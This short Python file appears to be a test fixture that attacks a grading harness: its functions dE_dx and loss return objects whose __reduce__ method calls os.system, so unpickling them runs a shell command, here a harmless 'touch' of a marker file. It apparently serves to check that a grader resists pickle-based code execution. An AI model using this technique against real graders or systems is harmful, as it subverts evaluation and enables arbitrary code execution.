"""Attack: return objects whose unpickling would run a command.
affects: dE_dx loss
"""
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-attack-pickle-ran",))


def dE_dx(x, y, W1, W2):
    return Payload()


def loss(y_hat, y):
    return [Payload()]
